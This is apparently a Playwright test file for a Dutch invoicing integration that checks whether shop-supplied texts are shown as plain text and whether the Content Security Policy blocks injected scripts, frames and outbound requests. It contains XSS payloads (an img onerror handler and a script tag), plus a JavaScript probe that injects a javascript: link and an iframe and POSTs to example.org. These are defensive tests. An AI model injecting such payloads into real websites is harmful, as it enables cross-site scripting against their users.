"""Texts of a shop are text on every screen, and what got past that would still not be obeyed."""

from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from factuurbrug.domain.ids import IntegrationId
from factuurbrug.domain.order import CartRule, Order
from factuurbrug.domain.party import Customer
from factuurbrug.domain.record import State
from factuurbrug.runtime.compose import Parts
from playwright.sync_api import expect

from tests.browser.conftest import LetIn
from tests.browser.visitor import Visitor
from tests.browser.world import World
from tests.builders.orders import a_line, a_profile, a_voucher, an_address, an_order
from tests.fakes.queue import FakeQueue
from tests.fakes.shop import FakeShop
from tests.fakes.vat_register import FakeVatRegister

NAME = "opmaak"
MARKUP = "<img src=x onerror=window.struck=1><script>window.struck=1</script>"
#: A screen of each kind on which a shop's texts stand.
SCREENS = ("overzicht", "fouten", "open", "rapportage", "controle", "configuratie", "bestelling/1-8-invoice-1")
#: What a hole would let in: as it would come by a text, as a script, as a way out and as a frame.
_HOLE = """async () => {
  const found = [];
  addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
  const place = document.createElement("div");
  place.innerHTML = '<img src="/x" onerror="window.struck = 1"><a href="javascript:window.struck=1">a</a>';
  const script = document.createElement("script");
  script.textContent = "window.struck = 1";
  const frame = document.createElement("iframe");
  frame.src = "https://example.org/";
  place.append(script, frame);
  document.body.append(place);
  place.querySelector("a").click();
  await fetch("https://example.org/", { method: "POST", body: "x" }).catch(() => undefined);
  const wanted = ["script-src-attr", "script-src-elem", "connect-src", "frame-src"];
  while (!wanted.every((one) => found.includes(one))) await new Promise((next) => requestAnimationFrame(next));
  place.remove();
  return found;
}"""


def hostile(**changes: Any) -> Order:
    """An order of which every text is markup."""
    line = a_line("50.00", "13", name=MARKUP, sku=MARKUP)
    address = an_address(
        "NL", first_name=MARKUP, last_name=MARKUP, company=MARKUP, address1=MARKUP, address2=MARKUP, city=MARKUP,
        phone=MARKUP, vat_number=MARKUP,
    )  # fmt: skip
    voucher: CartRule = a_voucher("0", "0", name=MARKUP, code=MARKUP)
    usual: dict[str, Any] = {
        "id": 8, "cart_id": 8, "to": address, "reference": MARKUP[:20], "payment": MARKUP, "module": MARKUP,
        "carrier_name": MARKUP, "cart_rules": (voucher,), "customer": Customer(5, MARKUP, MARKUP, MARKUP, MARKUP),
    }  # fmt: skip
    return an_order(line, **(usual | changes))


@pytest.fixture(scope="module")
def shop(world: World) -> IntegrationId:
    """Otto's koppeling, with an order that is held and one that waits."""
    settings = world.another_koppeling(NAME, world.person("otto"), start_date=world.today.replace(year=2020))
    waiting = hostile(id=9, cart_id=9, state_id=99, state=replace(hostile().state, id=99, name=MARKUP, paid=False))
    read = FakeShop([hostile(), waiting], profile=a_profile())
    parts = Parts(
        settings=world.parts.settings,
        clients=world.parts.clients,
        shop_opener=lambda _: read,
        register=FakeVatRegister(clock=world.parts.clock),
    )
    parts.__dict__["queue"] = FakeQueue()
    parts.fetch_orders.run(settings.id, holder="test", deadline=parts.clock.now() + timedelta(hours=1), chain=0)
    states = {
        record.state for number in (8, 9) for record in parts.records.of_order(settings.id, shop_id=1, order_id=number)
    }
    assert states == {State.HELD, State.FETCHED}
    return settings.id


@pytest.fixture
def otto(world: World, let_in: LetIn, shop: IntegrationId) -> Visitor:
    visitor = let_in(world.person("otto"))
    visitor.sign_in(f"/koppeling/{shop}/overzicht")
    return visitor


def test_markup_in_every_text_of_a_shop_stands_on_the_screens_as_it_is_written(otto: Visitor) -> None:
    shown = set()
    for screen in SCREENS:
        otto.open_screen(f"/koppeling/{NAME}/{screen}")
        if MARKUP[:12] in otto.page.locator("main").inner_text():
            shown.add(screen)
        assert otto.page.evaluate("window.struck ?? null") is None, screen
        assert otto.page.locator("main img[src=x], main script").count() == 0, screen

    assert shown >= {"fouten", "open", "bestelling/1-8-invoice-1"}
    expect(otto.page.get_by_text(MARKUP).first).to_be_visible()


def test_it_is_searched_for_as_text_too(otto: Visitor) -> None:
    otto.open_screen(f"/koppeling/{NAME}/fouten?zoek={MARKUP}")

    assert otto.page.evaluate("window.struck ?? null") is None
    assert otto.page.locator("main img[src=x]").count() == 0


def test_a_script_that_got_into_the_page_would_neither_run_nor_reach_anybody(otto: Visitor) -> None:
    with otto.expecting(403, 404):
        found = otto.page.evaluate(_HOLE)

    assert {"script-src-attr", "script-src-elem", "connect-src", "frame-src"} <= set(found)
    assert otto.page.evaluate("window.struck ?? null") is None
    # Chromium says on the console what it refused.
    assert otto.complaints.told
    assert all("Content Security Policy" in one or "example.org" in one for one in otto.complaints.told)
    otto.complaints.told.clear()
